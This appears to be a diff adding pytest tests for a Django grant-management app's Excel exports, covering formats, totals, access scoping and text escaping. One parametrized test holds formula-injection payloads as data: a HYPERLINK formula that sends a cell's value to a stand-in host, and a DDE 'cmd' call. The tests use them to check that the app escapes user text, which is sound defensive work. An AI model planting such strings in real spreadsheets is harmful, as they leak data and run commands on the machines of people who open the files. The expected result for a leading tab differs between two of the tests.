@@ -1,0 +1,95 @@
+"""Open the workbooks the app sends and check what an auditor would rely on."""
+
+import uuid
+from datetime import date, datetime
+from decimal import Decimal
+from io import BytesIO
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from budgets import ledger
+from grants.audit import AuditEvent
+from reports.exports.xlsx import safe_text
+from tests.budgets.ledger_helpers import activate, post
+
+
+def _workbook(response):
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    return load_workbook(BytesIO(b"".join(response.streaming_content)))
+
+
+def test_awards_workbook_keeps_types_formats_and_totals(client, program):
+    client.force_login(program.auditor)
+    wb = _workbook(client.get(reverse("exports:awards")))
+    ws = wb["Awards"]
+    rows = list(ws.iter_rows(values_only=True))
+    assert rows[0][:3] == ("Award number", "Fiscal year", "Task force")
+    numbers = {r[0]: r for r in rows[1:-1]}
+    first = numbers["15PJDP-25-GK-00001-MECP"]
+    assert first[8] == 200000 and isinstance(first[6], datetime) and first[6].date() == date(2024, 10, 1)
+    amount_cell = ws["I2"]
+    assert amount_cell.number_format == "#,##0.00" and amount_cell.data_type == "n"
+    assert ws["A2"].data_type == "s"
+    assert rows[-1][0] == "Total" and rows[-1][8] == "=SUM(I2:I3)"
+    assert sum(r[8] for r in rows[1:-1]) == 400000  # what the app shows as awarded
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:K3"
+    about = dict(wb["About"].iter_rows(values_only=True))
+    assert about["Exported by"] == "auditor" and about["Rows in Awards"] == "2"
+    assert len(about["SHA-256 of the data"]) == 64
+    event = AuditEvent.objects.get(action="reports.export.downloaded")
+    assert event.actor == program.auditor and event.data["rows"] == 2
+
+
+def test_filters_and_scope_are_honoured(client, program):
+    client.force_login(program.officer_b)
+    rows = list(_workbook(client.get(reverse("exports:awards"))).active.iter_rows(values_only=True))
+    assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00002-MECP"]
+    client.force_login(program.pm)
+    rows = list(_workbook(client.get(reverse("exports:awards"), {"award_number": "00001"})).active.iter_rows(values_only=True))
+    assert [r[0] for r in rows[1:-1]] == ["15PJDP-25-GK-00001-MECP"]
+    assert client.get(reverse("exports:ledger", args=["15PJDP-25-GK-00001-MECP"])).status_code == 200
+    client.force_login(program.officer_b)
+    assert client.get(reverse("exports:ledger", args=["15PJDP-25-GK-00001-MECP"])).status_code == 404
+    assert client.get(reverse("exports:appropriations")).status_code == 403
+
+
+@pytest.mark.parametrize("memo, stored", [
+    ('=HYPERLINK("http://x.invalid/?"&A1,"Open")', '\'=HYPERLINK("http://x.invalid/?"&A1,"Open")'),
+    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'=1+1"), ("\x00=1", "'=1"), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("#N/A", "'#N/A"),
+])
+def test_user_text_never_becomes_a_formula(client, program, memo, stored):
+    activate(program)
+    program.award_a.refresh_from_db()
+    post(program, "expenditure", "10.00", memo=memo)
+    client.force_login(program.officer_a)
+    ws = _workbook(client.get(reverse("exports:ledger", args=[program.award_a.award_number])))["Ledger"]
+    cell = ws["J2"]
+    assert (cell.value, cell.data_type) == (stored, "s")
+
+
+def test_ledger_workbook_ties_out_to_the_balances(client, program):
+    activate(program)
+    program.award_a.refresh_from_db()
+    post(program, "expenditure", "100.25")
+    entry = post(program, "expenditure", "50.10")
+    ledger.entry_reverse(actor=program.officer_a, entry=entry, reason="twice", idempotency_key=uuid.uuid4(),
+                         effective_date=date(2025, 2, 1))
+    client.force_login(program.auditor)
+    ws = _workbook(client.get(reverse("exports:ledger", args=[program.award_a.award_number])))["Ledger"]
+    amounts = [row[6] for row in ws.iter_rows(min_row=2, values_only=True) if row[0] != "Total"]
+    assert [Decimal(str(a)) for a in amounts] == [Decimal("100.25"), Decimal("50.10"), Decimal("-50.10")]
+    assert list(ws.iter_rows(values_only=True))[-1][8] is None  # running columns are not totalled
+
+
+def test_safe_text_truncation_is_marked():
+    text = safe_text("x" * 40000)
+    assert len(text) == 32767 and text.endswith("[truncated]")
+
+
+def test_safe_text_keeps_tabs_inside_but_not_leading():
+    assert safe_text("\t=1+1") == "'\t=1+1"
+    assert safe_text("a\tb") == "a\tb"
